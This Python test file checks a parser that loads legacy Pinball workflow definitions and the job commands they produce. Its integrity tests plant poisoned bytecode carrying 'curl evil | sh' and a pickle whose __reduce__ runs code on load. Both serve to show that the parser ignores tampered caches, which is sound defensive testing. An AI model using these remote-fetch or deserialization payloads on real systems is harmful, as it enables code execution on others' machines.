"""Every definition Pinball ran loads here, with the commands Pinball gave.

Duck-typed templates and nulls in the JSON format, Python 2 definition modules (a corpus
of the idioms, and a re-creation of the shape of Pinball's own ``pinball_ext/examples``),
stand-ins for Pinball's job classes, stub modules, the loader that never reads bytecode,
and the cluster settings for all of it. Expected commands are the ones Pinball's own code
gives for the same definitions under CPython 2.7 (recorded here; the live comparison with
Python 2 Pinball is in test_command_equivalence.py).
"""

from __future__ import annotations

import importlib.util
import json
import os
import pickle
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from legacy_parser import compat, loader
from legacy_parser.model import WORKFLOW_START_INPUT, ErrorKind, ParseResult
from tests.helpers import JSON_PARSER, PY_PARSER, json_job, json_workflow, write_repo
from token_fetcher._proto import token_fetcher_pb2 as pb
from token_fetcher.config import ConfigError, parse_config

PACKAGE_PARENT = str(Path(__file__).resolve().parent.parent)
END_DATE = "2015-02-01"


def commands(result: ParseResult) -> dict[str, str]:
    """workflow/job -> the command for the run whose end date is END_DATE."""
    return {f"{workflow.name}/{job.name}": job.command.render(END_DATE)
            for workflow in result.workflows for job in workflow.jobs}


def only_error(result: ParseResult, workflow: str = ""):
    errors = result.errors_for(workflow)
    assert len(errors) == 1, result.errors
    return errors[0]


# --- JSON format: duck-typed templates and nulls ---------------------------------------------

DUCK_TEMPLATES = '''
    from pinball.workflow.job import ShellConditionJob, ShellJob
    from pinball_ext.job_templates import CommandJobTemplate


    class DuckTemplate(object):
        """No JobTemplateBase ancestor: Pinball's repository parser never checks."""

        def __init__(self, name, max_attempts=None, emails=None, priority=None):
            self.name = name
            self.max_attempts = max_attempts if max_attempts is not None else 2
            self.emails = emails
            self.priority = priority

        def get_pinball_job(self, inputs, outputs, params):
            return ShellJob(name=self.name, inputs=inputs, outputs=outputs, emails=self.emails,
                            max_attempts=self.max_attempts, command='run %s' % params['what'])


    class DuckCondition(object):
        def __init__(self, name, max_attempts=None, retry_delay_sec=None, emails=None,
                     priority=None):
            self.name = name

        def get_pinball_condition(self, outputs, params=None):
            return ShellConditionJob(name=self.name, outputs=outputs, emails=[],
                                     command=params['command'])


    class NoMethod(object):
        def __init__(self, name, **kwargs):
            self.name = name


    class EchoTemplate(CommandJobTemplate):
        def __init__(self, name, **kwargs):
            super(EchoTemplate, self).__init__(name, 'echo %(what)s', **kwargs)
'''


def _json_repo_files() -> dict[str, str]:
    duck = {"template": "duck_templates.DuckTemplate", "template_params": {"what": "x"}}
    echo = {"template": "duck_templates.EchoTemplate", "template_params": {"what": "y"}}
    files = {"duck_templates.py": DUCK_TEMPLATES}
    for name, jobs in {
        "duck": {"a": json_job("duck", "a", **duck),
                 "ready": json_job("duck", "ready", is_condition=True,
                                   template="duck_templates.DuckCondition",
                                   template_params={"command": "test -e /data"})},
        "no_method": {"a": json_job("no_method", "a", template="duck_templates.NoMethod")},
        "duck_as_condition": {"a": json_job("duck_as_condition", "a", is_condition=True,
                                            **duck)},
        "null_emails": {"a": json_job("null_emails", "a", emails=None, **echo)},
        "null_parents": {"a": json_job("null_parents", "a", **echo),
                         "b": json_job("null_parents", "b", parents=None, **echo)},
        "null_max_attempts": {"a": json_job("null_max_attempts", "a", max_attempts=None,
                                            **echo)},
        "null_retry_delay": {"a": json_job("null_retry_delay", "a", retry_delay_sec=None,
                                           **echo)},
    }.items():
        files.update(json_workflow(name, jobs))
    return files


@pytest.fixture(scope="module")
def json_result(sandbox, tmp_path_factory) -> ParseResult:
    repo = write_repo(tmp_path_factory.mktemp("duck_json") / "repo", _json_repo_files())
    return sandbox.parse("duck_json", str(repo), JSON_PARSER, {})


def _job(result: ParseResult, workflow: str, job: str):
    found = {w.name: w for w in result.workflows}[workflow].job(job)
    assert found is not None
    return found


def test_json_duck_typed_job_and_condition_templates_load(json_result):
    job = _job(json_result, "duck", "a")
    assert (job.command.render(END_DATE), job.max_attempts, job.template) == \
        ("run x", 1, "duck_templates.DuckTemplate")
    condition = _job(json_result, "duck", "ready")
    assert (condition.kind.value, condition.command.render(END_DATE)) == \
        ("condition", "test -e /data")


def test_json_template_without_the_method_its_job_needs_is_wrong_template_type(json_result):
    for workflow, method in (("no_method", "get_pinball_job"),
                             ("duck_as_condition", "get_pinball_condition")):
        error = only_error(json_result, workflow)
        assert (error.kind, error.job, error.file) == \
            (ErrorKind.WRONG_TEMPLATE_TYPE, "a", f"workflow/{workflow}/job/a")
        assert f"has no {method} method" in error.message


def test_json_null_emails_mean_no_emails(json_result):
    assert _job(json_result, "null_emails", "a").emails == ()


def test_json_null_parents_make_a_top_level_job(json_result):
    job = _job(json_result, "null_parents", "b")
    assert (job.parents, job.inputs) == ((), (WORKFLOW_START_INPUT,))


def test_json_null_max_attempts_takes_the_templates_default(json_result):
    # CommandJobTemplate's default: None means 1.
    assert _job(json_result, "null_max_attempts", "a").max_attempts == 1


def test_json_null_retry_delay_of_a_job_is_never_read(json_result):
    job = _job(json_result, "null_retry_delay", "a")
    assert (job.retry_delay_sec, job.command.render(END_DATE)) == (0, "echo y")


def test_python_format_still_refuses_a_duck_typed_template(sandbox, tmp_path):
    repo = write_repo(tmp_path / "repo", {
        "duck_templates.py": DUCK_TEMPLATES,
        "duck_defs.py": '''
            from datetime import datetime, timedelta

            from duck_templates import DuckTemplate
            from pinball_ext.job_templates import CommandJobTemplate
            from pinball_ext.workflow.config import JobConfig, ScheduleConfig, WorkflowConfig

            WORKFLOWS = {'duck': WorkflowConfig(
                jobs={'a': JobConfig(DuckTemplate('a'))},
                final_job_config=JobConfig(CommandJobTemplate('final', 'true')),
                schedule=ScheduleConfig(timedelta(days=1), datetime(2015, 1, 1)))}
        ''',
    })
    result = sandbox.parse("duck_py", str(repo), PY_PARSER,
                           {"workflows_config": "duck_defs.WORKFLOWS"})
    error = only_error(result, "duck")
    assert (error.kind, error.job, error.file, error.line) == \
        (ErrorKind.WRONG_TEMPLATE_TYPE, "a", "duck_defs.py", 8)
    assert "not a JobTemplateBase or ConditionTemplateBase" in error.message


# --- Python 2 definitions --------------------------------------------------------------------

# Each module uses Python 2 idioms that fail under Python 3 untranslated.
PY2_CORPUS = {
    "legacy/__init__.py": "",
    "legacy/jobs.py": '''
        """Job classes, as a Python 2 team wrote them."""
        import os
        import sys

        from pinball_ext.job.basic_jobs import CommandLineJob
        from pinball_ext.job.basic_jobs import PythonJob
        from pinball_ext.job_templates import CommandJobTemplate

        JOB_IMPORT_DIRS = [os.path.dirname(os.path.realpath(__file__))]


        class RevenueJob(PythonJob):
            def _execute(self):
                print 'revenue for %s' % self.params.get('end_date')
                print >>sys.stderr, 'done'


        class CopyJob(CommandLineJob):
            def _get_command(self):
                return 'cp'


        FINAL_JOB = CommandJobTemplate('final', 'echo done')
    ''',
    "legacy/templates.py": '''
        """A team's own template, in Python 2."""
        import abc

        from pinball_ext.job_templates import JobTemplate


        class Registry(object):
            __metaclass__ = abc.ABCMeta


        class EmrTemplate(JobTemplate):
            def __init__(self, name, cluster, **kwargs):
                if not isinstance(cluster, basestring):
                    raise TypeError, 'cluster must be a string'
                config = {u'cluster': unicode(cluster), 'queue': 'etl'}
                if config.has_key('cluster') and config['cluster'] <> '':
                    config['pool'] = `len(config)`
                super(EmrTemplate, self).__init__(name, executor='emr',
                                                  executor_config=config, **kwargs)
    ''',
    "legacy/naming.py": '''
        """Compiles as Python 3, and still is Python 2 code."""
        import jobs


        def class_name(job_class):
            names = dict((cls.__name__, cls) for cls in (jobs.RevenueJob, jobs.CopyJob))
            for name, cls in names.iteritems():
                if cls is job_class and isinstance(name, basestring):
                    return name
    ''',
    "legacy/workflows.py": '''
        """Python 2 definitions."""
        from datetime import datetime, timedelta

        import jobs
        from naming import class_name
        from templates import EmrTemplate
        from pinball_ext.job_templates import JobTemplate
        from pinball_ext.workflow.config import JobConfig, ScheduleConfig, WorkflowConfig

        print 'loading workflows'

        MODE = 0777
        try:
            LIMIT = long(10) + sum(x for x in xrange(3))
        except ValueError, error:
            LIMIT = 0

        TEAMS = {'ads': 'emr-ads', 'growth': 'emr-growth'}


        def schedule((hours, minutes)):
            return ScheduleConfig(recurrence=timedelta(days=1),
                                  reference_timestamp=datetime(2015, 1, 1, hours, minutes))


        WORKFLOWS = {}
        for team, cluster in TEAMS.iteritems():
            WORKFLOWS['%s_daily' % team] = WorkflowConfig(
                jobs={
                    'extract': JobConfig(JobTemplate(class_name(jobs.RevenueJob),
                                                     write_lock='/locks/%s' % team), []),
                    'load': JobConfig(EmrTemplate('CopyJob', cluster, max_attempts=LIMIT),
                                      ['extract']),
                },
                final_job_config=JobConfig(jobs.FINAL_JOB),
                schedule=schedule((6, 30)),
                notify_emails='%s@example.com' % team)
    ''',
}
PY2_CORPUS_PARAMS = {"workflows_config": "legacy.workflows.WORKFLOWS", "job_repo_dir": "/srv/jobs",
                     "job_import_dirs_config": "legacy.jobs.JOB_IMPORT_DIRS",
                     "job_params": {"team": "x", "region": "us"}}
_RUNNER = ("cd /srv/jobs && python -m pinball_ext.job.job_runner "
           "--job_import_dirs_config=legacy.jobs.JOB_IMPORT_DIRS ")
# What Pinball's own code gives under CPython 2.7 for the corpus, with the pairs in the
# definition's order (Python 2 printed them as region=us,end_date=...,team=x and
# queue=etl,cluster=...,pool=2).
PY2_CORPUS_COMMANDS = {
    f"{team}_daily/{job}": command for team in ("ads", "growth") for job, command in {
        "extract": _RUNNER + f'--job_class_name=RevenueJob --job_params="team=x,region=us,'
                             f'end_date={END_DATE}" --write_lock=/locks/{team} ',
        "load": _RUNNER + f'--job_class_name=CopyJob --job_params="team=x,region=us,'
                          f'end_date={END_DATE}" --executor=emr --executor_config="cluster='
                          f'emr-{team},queue=etl,pool=2" ',
        "final": "echo done",
    }.items()
}


@pytest.fixture(scope="module")
def py2_repo(tmp_path_factory) -> Path:
    return write_repo(tmp_path_factory.mktemp("py2_corpus") / "repo", PY2_CORPUS)


def test_python2_idiom_corpus_loads_with_pinballs_commands(sandbox, py2_repo):
    result = sandbox.parse("py2", str(py2_repo), PY_PARSER, PY2_CORPUS_PARAMS)
    assert result.errors == ()
    assert commands(result) == PY2_CORPUS_COMMANDS
    load = result.workflows[0].job("load")
    # long(10) + sum(xrange(3)); the definition site is the original file's line.
    assert (load.max_attempts, load.file, load.line) == (13, "legacy/workflows.py", 32)
    assert [file.path for file in result.files] == [
        "legacy/__init__.py", "legacy/jobs.py", "legacy/naming.py", "legacy/templates.py",
        "legacy/workflows.py"]


def test_python2_definitions_off_reports_the_python3_syntax_error(sandbox, py2_repo):
    result = sandbox.parse("py2", str(py2_repo), PY_PARSER, PY2_CORPUS_PARAMS,
                           python2_definitions="off")
    error = only_error(result)
    assert (error.kind, error.file, error.line) == \
        (ErrorKind.SYNTAX_ERROR, "legacy/workflows.py", 12)


PY2_ERRORS = {
    # The tuple parameter's translation adds a line: the error must still name line 4.
    "raises/__init__.py": "",
    "raises/workflows.py": '''
        def first((a, b)):
            return a
        print "about to fail"
        raise ValueError("line %d" % 4)
    ''',
    "neither/__init__.py": "",
    "neither/workflows.py": '''
        print "python 2"
        def broken(:
            pass
    ''',
}


@pytest.mark.parametrize(("package", "kind", "line", "part"), [
    ("raises", ErrorKind.EXCEPTION_AT_IMPORT, 4, "ValueError: line 4"),
    ("neither", ErrorKind.SYNTAX_ERROR, 1, "SyntaxError"),
])
def test_python2_error_positions_name_the_original_file_and_line(sandbox, tmp_path, package,
                                                                  kind, line, part):
    repo = write_repo(tmp_path / "repo", PY2_ERRORS)
    result = sandbox.parse("py2", str(repo), PY_PARSER,
                           {"workflows_config": f"{package}.workflows.WORKFLOWS"})
    error = only_error(result)
    assert (error.kind, error.file, error.line) == (kind, f"{package}/workflows.py", line)
    assert part in error.message


def test_translation_maps_every_line_back():
    source = "def f(a, (b, c)):\n    return a\nx = 0777\nprint 'x'\n"
    text, lines = loader.translate_python2(source, "/nowhere/module.py")
    assert text == ("def f(a, xxx_todo_changeme):\n    (b, c) = xxx_todo_changeme\n"
                    "    return a\nx = 0o777\nprint('x')\n")
    # The unpacking the fixer adds belongs to the function's first line of body.
    assert [lines[number] for number in range(1, 6)] == [1, 2, 2, 3, 4]


@pytest.mark.parametrize(("source", "python2"), [
    ("for key, value in config.iteritems(): pass\n", True),
    ("ok = config.has_key('a')\n", True),
    ("def f():\n    return isinstance(x, basestring)\n", True),
    ("text = unicode(x)\n", True),
    ("import jobs\n", True),
    ("from jobs import FINAL_JOB\n", True),
    ("from . import jobs\n", False),
    ("from other import jobs\n", False),
    ("owner.jobs = 1\n", False),
    ("import functools\ntotal = functools.reduce(f, xs)\nframe.apply(f)\n", False),
])
def test_modules_that_compile_as_python3_are_translated_only_for_python2_names(
        tmp_path, source, python2):
    package = write_repo(tmp_path / "repo", {"pkg/__init__.py": "", "pkg/jobs.py": ""}) / "pkg"
    path = str(package / "module.py")
    code = compile(source, path, "exec")
    assert loader._uses_python2_names(code, path) is python2


# A re-creation of the shape of Pinball's pinball_ext/examples: a package under pinball_ext
# that the shims do not provide, a jobs module subclassing Pinball's job classes and
# printing with Python 2 syntax, and workflows importing FINAL_JOB from it.
EXAMPLES_SHAPE = {
    "pinball_ext/__init__.py": "",
    "pinball_ext/reports/__init__.py": "",
    "pinball_ext/reports/jobs.py": '''
        import os

        from pinball_ext.job.basic_jobs import CommandLineJob
        from pinball_ext.job.basic_jobs import PythonJob
        from pinball_ext.job.hadoop_jobs import HadoopJob
        from pinball_ext.job_templates import CommandJobTemplate

        JOB_IMPORT_DIRS = [os.path.dirname(os.path.realpath(__file__))]


        class SummaryJob(PythonJob):
            def _setup(self):
                print 'setting up %s' % self.job_name


        class ListJob(CommandLineJob):
            def _get_command(self):
                return 'ls'


        class CountJob(HadoopJob):
            def _get_class_name(self):
                return 'com.example.Count'


        FINAL_JOB = CommandJobTemplate('final', 'echo finished')
    ''',
    "pinball_ext/reports/workflows.py": '''
        from datetime import datetime
        from datetime import timedelta

        from pinball.config.pinball_config import PinballConfig
        from pinball_ext.reports.jobs import FINAL_JOB
        from pinball_ext.workflow.config import JobConfig
        from pinball_ext.workflow.config import WorkflowConfig
        from pinball_ext.workflow.config import ScheduleConfig
        from pinball_ext.job_templates import JobTemplate

        WORKFLOWS = {
            'reports': WorkflowConfig(
                jobs={
                    'summary': JobConfig(JobTemplate('SummaryJob'), []),
                    'listing': JobConfig(JobTemplate('ListJob'), ['summary'])
                },
                final_job_config=JobConfig(FINAL_JOB),
                schedule=ScheduleConfig(recurrence=timedelta(days=1),
                                        reference_timestamp=datetime(
                                        year=2015, month=2, day=1, second=1)),
                notify_emails='%s' % PinballConfig.DEFAULT_EMAIL)
        }
    ''',
}


def test_pinball_ext_packages_the_shims_lack_load_from_the_repo(sandbox, tmp_path):
    repo = write_repo(tmp_path / "repo", EXAMPLES_SHAPE)
    result = sandbox.parse("examples", str(repo), PY_PARSER, {
        "workflows_config": "pinball_ext.reports.workflows.WORKFLOWS",
        "job_repo_dir": "/mnt/pinball",
        "job_import_dirs_config": "pinball_ext.reports.jobs.JOB_IMPORT_DIRS",
    }, default_email="ops@example.com")
    assert result.errors == ()
    runner = ("cd /mnt/pinball && python -m pinball_ext.job.job_runner "
              "--job_import_dirs_config=pinball_ext.reports.jobs.JOB_IMPORT_DIRS ")
    assert commands(result) == {
        "reports/summary": runner + f'--job_class_name=SummaryJob --job_params="end_date='
                                    f'{END_DATE}" ',
        "reports/listing": runner + f'--job_class_name=ListJob --job_params="end_date='
                                    f'{END_DATE}" ',
        "reports/final": "echo finished",
    }
    assert result.workflows[0].notify_emails == ("ops@example.com",)


PINBALL_SOURCE = os.environ.get("PINBALL_SOURCE", "")


@pytest.mark.skipif(not os.path.isdir(os.path.join(PINBALL_SOURCE, "pinball_ext", "examples")),
                    reason="set PINBALL_SOURCE to a checkout of pinterest/pinball to load its "
                           "own pinball_ext/examples")
def test_pinballs_own_examples_load(sandbox):
    result = sandbox.parse("pinball_examples", PINBALL_SOURCE, PY_PARSER, {
        "workflows_config": "pinball_ext.examples.workflows.WORKFLOWS",
        "job_repo_dir": "/mnt/pinball",
        "job_import_dirs_config": "pinball_ext.examples.jobs.JOB_IMPORT_DIRS",
    })
    assert result.errors == ()
    runner = ("cd /mnt/pinball && python -m pinball_ext.job.job_runner "
              "--job_import_dirs_config=pinball_ext.examples.jobs.JOB_IMPORT_DIRS ")
    # As Pinball's own code gives them under CPython 2.7.
    assert commands(result) == {
        "example_workflow/parent_job": runner + "--job_class_name=ExamplePythonJob "
                                                f'--job_params="end_date={END_DATE}" ',
        "example_workflow/child_job": runner + "--job_class_name=ExampleCommandJob "
                                               f'--job_params="end_date={END_DATE}" ',
        "example_workflow/final": "echo success",
    }


# --- stub modules ----------------------------------------------------------------------------

STUBBED = {
    "etl/__init__.py": "",
    "etl/jobs.py": '''
        import MySQLdb
        from boto.s3.connection import S3Connection
        from pinball_ext.common.s3_utils import upload

        DB = MySQLdb.connect(host='db.example.com')


        class Uploader(S3Connection):
            pass
    ''',
    "etl/workflows.py": '''
        from datetime import datetime, timedelta

        from etl import jobs
        from pinball_ext.job_templates import CommandJobTemplate
        from pinball_ext.workflow.config import JobConfig, ScheduleConfig, WorkflowConfig

        WORKFLOWS = {'etl': WorkflowConfig(
            jobs={'upload': JobConfig(CommandJobTemplate('upload', 'upload --to s3'))},
            final_job_config=JobConfig(CommandJobTemplate('final', 'true')),
            schedule=ScheduleConfig(timedelta(days=1), datetime(2015, 1, 1)))}
    ''',
}
STUB_MODULES = ("MySQLdb", "boto", "pinball_ext.common")


def test_stub_modules_stand_in_for_third_party_clients(sandbox, tmp_path):
    repo = write_repo(tmp_path / "repo", STUBBED)
    params = {"workflows_config": "etl.workflows.WORKFLOWS"}
    result = sandbox.parse("stubs", str(repo), PY_PARSER, params, stub_modules=STUB_MODULES)
    assert result.errors == ()
    assert commands(result) == {"etl/upload": "upload --to s3", "etl/final": "true"}

    without = sandbox.parse("stubs", str(repo), PY_PARSER, params)
    error = only_error(without)
    assert (error.kind, error.file, error.line) == (ErrorKind.IMPORT_ERROR, "etl/jobs.py", 1)
    assert "MySQLdb" in error.message


# --- no bytecode any parse could have written ------------------------------------------------

INTEGRITY_REPO = {
    "defs/__init__.py": "",
    "defs/workflows.py": '''
        from datetime import datetime, timedelta

        from pinball_ext.job_templates import CommandJobTemplate, JobTemplate
        from pinball_ext.workflow.config import JobConfig, ScheduleConfig, WorkflowConfig

        try:
            import sneaky
            GREETING = sneaky.GREETING
        except ImportError:
            GREETING = 'echo safe'

        WORKFLOWS = {'w': WorkflowConfig(
            jobs={'a': JobConfig(CommandJobTemplate('a', GREETING)),
                  'b': JobConfig(JobTemplate('B'))},
            final_job_config=JobConfig(CommandJobTemplate('final', 'true')),
            schedule=ScheduleConfig(timedelta(days=1), datetime(2015, 1, 1)))}
    ''',
}
PARSE_SCRIPT = """
import json, sys
from legacy_parser.cluster import parse_here
result = parse_here("c", sys.argv[1], "pinball_ext.workflow.parser.PyWorkflowParser",
                    {"workflows_config": "defs.workflows.WORKFLOWS", "job_repo_dir": "/r",
                     "job_import_dirs_config": "j", "end_date": "E"})
print(json.dumps({job.name: job.command.render("E") for workflow in result.workflows
                  for job in workflow.jobs} or [e.message for e in result.errors]))
"""


def _poison(source_path: str, cache_path: str, old: str, new: str) -> None:
    """A bytecode file that Python would accept for ``source_path``, compiled from a
    changed source: what a definition could leave behind for another parse."""
    source = Path(source_path).read_text()
    assert old in source
    code = compile(source.replace(old, new), source_path, "exec")
    stat = os.stat(source_path)
    data = importlib._bootstrap_external._code_to_timestamp_pyc(code, stat.st_mtime,
                                                                stat.st_size)
    os.makedirs(os.path.dirname(cache_path), exist_ok=True)
    Path(cache_path).write_bytes(data)


def _cache_path(source_path: str, prefix: str) -> str:
    saved = sys.pycache_prefix
    sys.pycache_prefix = prefix
    try:
        return importlib.util.cache_from_source(source_path)
    finally:
        sys.pycache_prefix = saved


def test_no_parse_reads_bytecode_for_repo_modules_or_shims(tmp_path):
    repo = write_repo(tmp_path / "repo", INTEGRITY_REPO)
    cache = str(tmp_path / "cache")
    workflows = str(repo / "defs" / "workflows.py")
    shim = os.path.join(compat.SHIM_ROOT, "pinball_ext", "job_templates.py")
    # Poisoned bytecode where a shared pycache prefix (and the usual __pycache__) would
    # have it, and a sourceless module in the repo.
    for prefix in (cache, None):
        _poison(workflows, _cache_path(workflows, prefix), "echo safe", "echo poisoned")
    _poison(shim, _cache_path(shim, cache), "cd %(job_repo_dir)s",
            "curl evil | sh; cd %(job_repo_dir)s")
    (repo / "sneaky.py").write_text("GREETING = 'echo sneaky'\n")
    _poison(str(repo / "sneaky.py"), str(repo / "sneaky.pyc"), "sneaky", "sneaky")
    (repo / "sneaky.py").unlink()

    written = _files_under(cache, repo)
    env = dict(os.environ, PYTHONPATH=PACKAGE_PARENT, PYTHONPYCACHEPREFIX=cache)
    output = subprocess.run([sys.executable, "-c", PARSE_SCRIPT, str(repo)], env=env,
                            capture_output=True, text=True, timeout=60, check=True).stdout
    assert json.loads(output) == {
        "a": "echo safe",
        "b": "cd /r && python -m pinball_ext.job.job_runner --job_import_dirs_config=j "
             '--job_class_name=B --job_params="end_date=E" ',
        "final": "true",
    }
    # Nor does it write any for them.
    assert _files_under(cache, repo) == written


class _Planted:
    """Creates the file named ``marker`` when unpickled."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


def test_the_python2_translator_loads_no_grammar_a_parse_could_have_written(tmp_path):
    repo = write_repo(tmp_path / "repo", {
        "defs/__init__.py": "",
        "defs/workflows.py": textwrap.dedent(INTEGRITY_REPO["defs/workflows.py"])
        + "\nprint 'python 2'\n",
    })
    marker = tmp_path / "unpickled"
    env = dict(os.environ, PYTHONPATH=PACKAGE_PARENT, XDG_CACHE_HOME=str(tmp_path / "cache"))
    # fissix's per-user grammar cache, where a parse could leave a pickle for the next one.
    cache = subprocess.run([sys.executable, "-c", "import fissix; print(fissix.CACHE_DIR)"],
                           env=env, capture_output=True, text=True, check=True).stdout.strip()
    os.makedirs(cache, exist_ok=True)
    for grammar in ("Grammar", "PatternGrammar"):
        Path(cache, f"{grammar}3.9.0a6+.pickle").write_bytes(pickle.dumps(_Planted(str(marker))))
    output = subprocess.run([sys.executable, "-c", PARSE_SCRIPT, str(repo)], env=env,
                            capture_output=True, text=True, timeout=60, check=True).stdout
    assert not marker.exists()
    assert json.loads(output.splitlines()[-1])["a"] == "echo safe"  # after the module's print


def _files_under(*folders) -> set[str]:
    return {os.path.join(root, name) for folder in folders
            for root, _, names in os.walk(folder) for name in names
            if "legacy_parser" in root or str(folder) in root and name.endswith(".pyc")}


# --- cluster settings ------------------------------------------------------------------------


def _cluster(**settings) -> dict:
    return {"clusters": {"c": {"repo": ".", "parser": PY_PARSER,
                               "parser_params": {"workflows_config": "a.B"}, **settings}}}


def test_cluster_settings_default_to_auto_and_no_stubs(tmp_path):
    cluster = parse_config(_cluster(), tmp_path).clusters["c"]
    assert (cluster.python2_definitions, cluster.stub_modules) == ("auto", ())
    cluster = parse_config(_cluster(python2_definitions="off", stub_modules=["boto.s3"]),
                           tmp_path).clusters["c"]
    assert (cluster.python2_definitions, cluster.stub_modules) == ("off", ("boto.s3",))


@pytest.mark.parametrize(("settings", "message"), [
    ({"python2_definitions": "yes"}, "clusters.c: python2_definitions: expected auto or off"),
    ({"stub_modules": "boto"}, "clusters.c.stub_modules: expected list"),
    ({"stub_modules": ["boto s3"]}, "'boto s3' is not a dotted module name"),
    ({"stub_modules": ["pinball_ext.job_templates"]}, "is one of the Pinball shims"),
])
def test_bad_cluster_settings_are_refused_naming_the_key(tmp_path, settings, message):
    with pytest.raises(ConfigError, match=message.replace(".", r"\.").replace("'", "'")):
        parse_config(_cluster(**settings), tmp_path)


def test_server_info_reports_each_clusters_stub_modules(start_server, stub_for, tmp_path):
    repo = write_repo(tmp_path / "stubbed", STUBBED)
    server = start_server({"stubbed": {
        "repo": str(repo), "parser": PY_PARSER,
        "parser_params": {"workflows_config": "etl.workflows.WORKFLOWS"},
        "stub_modules": list(STUB_MODULES)}})
    info = stub_for(server).GetServerInfo(pb.GetServerInfoRequest())
    cluster = info.clusters[0]
    assert (cluster.name, list(cluster.stub_modules), cluster.ok_count) == \
        ("stubbed", list(STUB_MODULES), 1)

